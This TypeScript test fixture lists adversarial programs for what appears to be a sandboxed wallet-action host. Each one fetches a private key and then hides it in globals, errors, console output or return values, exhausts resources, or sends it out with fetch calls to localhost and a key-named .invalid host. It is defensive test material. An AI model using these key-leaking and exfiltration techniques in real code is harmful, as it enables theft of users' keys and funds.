/** An action that legitimately has a wallet's key and then misuses it. */
export type LeakyProgram = {
  name: string
  code: string
  /** The program reveals the key, or a value derived from it, in its own result, error or console output. */
  tells: boolean
}

const withKey = (name: string, body: string, tells: boolean): LeakyProgram => ({
  name,
  code: `async function main({ pkpId }) { const key = await Svc.Actions.getPrivateKey({ pkpId }); ${body} }`,
  tells,
})
const silent = (name: string, body: string) => withKey(name, body, false)
const telling = (name: string, body: string) => withKey(name, body, true)

/** They output nothing about the key, so even their caller must not receive it. */
const SILENT: LeakyProgram[] = [
  silent('loops with the key in its hands', 'for (;;) globalThis.kept = key + 1'),
  silent('fills its memory with the key', 'const all = []; for (;;) all.push(key + all.length)'),
  silent(
    'fills buffers with the key',
    'const all = []; for (;;) all.push(ethers.utils.arrayify(key))',
  ),
  silent('waits for nothing', 'await new Promise(() => key)'),
  silent('overflows its stack with the key as argument', 'const f = (k) => f(k + 1) + k; f(key)'),
  silent('joins the key for ever', 'return new Array(2 ** 32 - 1).join(key)'),
  silent('returns too much', 'return key.repeat(20000)'),
  silent('returns a function around it', 'return () => key'),
  silent('returns a BigInt of it', 'return { list: [0, BigInt(key)] }'),
  silent('returns a cycle around it', 'const a = { key }; a.a = a; return a'),
  silent('returns an object whose toJSON hides it', 'return { key, toJSON() {} }'),
  silent(
    'leaves it in globals and prototypes',
    'globalThis.key = key; Object.prototype.key = key; Array.prototype.push(key); return 1',
  ),
  silent('leaves it in a rejection', 'Promise.reject(new Error(key)); return 1'),
  silent('leaves it in a timer', 'setTimeout(() => { throw new Error(key) }, 60000); return 1'),
  silent('throws with the key in the cause', "throw new Error('no', { cause: key })"),
  silent(
    'throws from a pattern of the key',
    "new RegExp(key).exec({ toString() { throw new Error('no') } })",
  ),
  silent('asks for ten more keys, and one', 'for (;;) await Svc.Actions.getPrivateKey({ pkpId })'),
  silent(
    'prints it beyond the end of the console',
    "console.log('x'.repeat(200000)); console.log(key); return 1",
  ),
  silent(
    'signs, and fails',
    "await new ethers.Wallet(key).signMessage('m'); throw new Error('no')",
  ),
]

/** They may reveal the key to their caller, but the host must not keep it. */
const TELLING: LeakyProgram[] = [
  telling('returns it', 'return key'),
  telling('returns its bytes', 'return [...ethers.utils.arrayify(key)]'),
  telling('returns it in base64', 'return ethers.utils.base64.encode(key)'),
  telling('returns it in decimal', 'return BigInt(key).toString()'),
  telling('returns it as a name', 'return { [key]: 1 }'),
  telling('returns half of it', 'return key.slice(0, 34)'),
  telling('prints it', "console.log(key); console.error({ key }); throw new Error('no')"),
  telling('prints it and returns', 'console.log(key, ethers.utils.arrayify(key)); return 1'),
  telling('prints it and loops', 'console.log(key); for (;;);'),
  telling('throws it', 'throw key'),
  telling('throws it as message', 'throw new Error(key)'),
  telling('throws it as name', "throw Object.assign(new Error('no'), { name: key })"),
  telling(
    'throws it as stack',
    "throw Object.assign(new Error('no'), { stack: '    at ' + key + ' (action.js:1:1)' })",
  ),
  telling('throws it as a symbol', 'throw Symbol(key)'),
  telling('throws an object of it', 'throw { key }'),
  telling(
    'throws it in raw bytes',
    'throw new Error(String.fromCharCode(...ethers.utils.arrayify(key)))',
  ),
  telling(
    'throws from a function of its name',
    "const o = { [key]() { throw new Error('no') } }; o[key]()",
  ),
  telling('throws from source of it', "eval('var ' + key)"),
  telling('names it in a value that JSON cannot carry', 'return { [key]: 1n }'),
  telling('asks for a wallet of its name', 'await Svc.Actions.getPrivateKey({ pkpId: key })'),
  telling(
    'asks for an action of its name',
    'await Svc.Actions.getSvcActionPublicKey({ ipfsId: key })',
  ),
  telling('fetches an address of it', "await fetch('http://127.0.0.1:9/' + key)"),
  telling('fetches a host of it', "await fetch('http://' + key.slice(2, 34) + '.invalid/')"),
  telling('reads a URL of it', "return new URL('http://' + key + ':x/')"),
]

export const LEAKY_PROGRAMS: readonly LeakyProgram[] = [...SILENT, ...TELLING]
